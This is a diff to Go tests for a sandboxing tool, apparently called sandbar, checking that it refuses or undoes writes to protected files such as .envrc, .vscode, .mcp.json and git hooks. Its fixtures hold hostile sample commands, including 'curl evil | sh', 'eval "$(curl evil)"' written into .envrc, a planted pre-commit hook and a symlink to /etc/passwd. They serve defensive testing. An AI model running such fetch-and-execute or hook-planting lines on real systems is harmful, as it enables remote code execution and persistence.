@@ -5,6 +5,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strconv"
 	"strings"
 	"syscall"
@@ -300,7 +301,7 @@ func TestCheckJSON(t *testing.T) {
 func TestExplainShowsBwrap(t *testing.T) {
 	e := newEnv(t)
 	r := e.sandbar(e.ws, "explain", "--", "make")
-	if r.code != 0 || !strings.Contains(r.stdout, "bwrap") || !strings.Contains(r.stdout, " "+e.ws+" ") || !strings.Contains(r.stdout, "# fd 9: "+e.ws+" (opened without following symbolic links)") {
+	if r.code != 0 || !strings.Contains(r.stdout, "bwrap") || !strings.Contains(r.stdout, " "+e.ws+" ") || !regexp.MustCompile(`# fd \d+: `+regexp.QuoteMeta(e.ws)+` \(opened without following symbolic links\)`).MatchString(r.stdout) {
 		t.Errorf("explain: %+v", r)
 	}
 }
@@ -321,18 +322,20 @@ func TestKilledSandbarLeavesNothingRunning(t *testing.T) {
 }
 
 // A sandbar killed with SIGKILL cannot audit its run; the next run does.
+// (A repository made in the sandbox is not refused as it happens, only
+// audited, so it stands for anything the watch lets through.)
 func TestKilledRunIsAuditedByTheNextRun(t *testing.T) {
 	e := newEnv(t)
-	envrc := filepath.Join(e.ws, ".envrc")
-	cmd := exec.Command(sandbarBin, "run", "--", "sh", "-c", "echo 'curl evil | sh' > .envrc; sleep 1000")
+	hook := filepath.Join(e.ws, "nested", ".git", "hooks", "pre-commit")
+	cmd := exec.Command(sandbarBin, "run", "--", "sh", "-c", "git init -q nested && printf '#!/bin/sh\\ntouch pwned\\n' > nested/.git/hooks/pre-commit && chmod +x nested/.git/hooks/pre-commit; sleep 1000")
 	cmd.Dir = e.ws
 	cmd.Env = e.environ()
 	if err := cmd.Start(); err != nil {
 		t.Fatal(err)
 	}
-	confinetest.WaitFor(t, "the command to write .envrc", 10*time.Second, func() bool {
-		_, err := os.Stat(envrc)
-		return err == nil
+	confinetest.WaitFor(t, "the command to plant the hook", 10*time.Second, func() bool {
+		fi, err := os.Stat(hook)
+		return err == nil && fi.Mode()&0o100 != 0
 	})
 	cmd.Process.Signal(syscall.SIGKILL)
 	cmd.Wait()
@@ -340,10 +343,57 @@ func TestKilledRunIsAuditedByTheNextRun(t *testing.T) {
 	if r.code != 0 {
 		t.Fatalf("next run: exit %d\n%s", r.code, r.stderr)
 	}
-	if _, err := os.Stat(envrc); err == nil {
-		t.Errorf(".envrc left by the killed run is still in the workspace")
+	if _, err := os.Stat(hook); err == nil {
+		t.Errorf("the hook left by the killed run is still in place")
 	}
-	if !strings.Contains(r.stderr, ".envrc") || !strings.Contains(r.stderr, "killed") {
+	if !strings.Contains(r.stderr, "pre-commit") || !strings.Contains(r.stderr, "killed") {
 		t.Errorf("the next run does not report what it undid:\n%s", r.stderr)
+	}
+}
+
+// A protected path that does not exist cannot be created: the attempt
+// fails at once, as it happens, and is reported.
+func TestMissingProtectedPathsCannotBeCreated(t *testing.T) {
+	e := newEnv(t)
+	report := filepath.Join(e.root, "report.json")
+	script := strings.Join([]string{
+		`echo 'eval "$(curl evil)"' > .envrc || echo REFUSED-ENVRC`,
+		`mkdir .vscode || echo REFUSED-VSCODE`,
+		`echo '{}' > .mcp.json.tmp && mv .mcp.json.tmp .mcp.json || echo REFUSED-RENAME`,
+		`ln -s /etc/passwd .exrc || echo REFUSED-SYMLINK`,
+		`test -e .envrc || test -e .vscode || test -e .mcp.json || test -e .exrc || echo NONE-EXIST`,
+		`echo fine > ordinary.txt && echo WROTE-ORDINARY`,
+	}, "; ")
+	r := e.sandbar(e.ws, "run", "--report", report, "--", "sh", "-c", script)
+	if r.code != 0 {
+		t.Fatalf("exit %d\n%s", r.code, r.stderr)
+	}
+	for _, want := range []string{"REFUSED-ENVRC", "REFUSED-VSCODE", "REFUSED-RENAME", "REFUSED-SYMLINK", "NONE-EXIST", "WROTE-ORDINARY"} {
+		if !strings.Contains(r.stdout, want) {
+			t.Errorf("stdout lacks %s:\n%s\nstderr:\n%s", want, r.stdout, r.stderr)
+		}
+	}
+	b, _ := os.ReadFile(report)
+	var rep struct {
+		Violations []struct {
+			Kind, Operation, Path, Rule, Comm, Undone string
+			Pid, Count                                int
+		}
+	}
+	json.Unmarshal(b, &rep)
+	got := map[string]string{}
+	for _, v := range rep.Violations {
+		got[filepath.Base(v.Path)] = v.Operation
+		if v.Undone != "" {
+			t.Errorf("%s needed undoing (%s); it should have been refused", v.Path, v.Undone)
+		}
+		if v.Pid == 0 || v.Comm == "" {
+			t.Errorf("violation %+v lacks the process", v)
+		}
+	}
+	for name, op := range map[string]string{".envrc": "create", ".vscode": "mkdir", ".mcp.json": "rename", ".exrc": "symlink"} {
+		if got[name] != op {
+			t.Errorf("violation for %s: %q; want %q (report: %s)", name, got[name], op, b)
+		}
 	}
 }
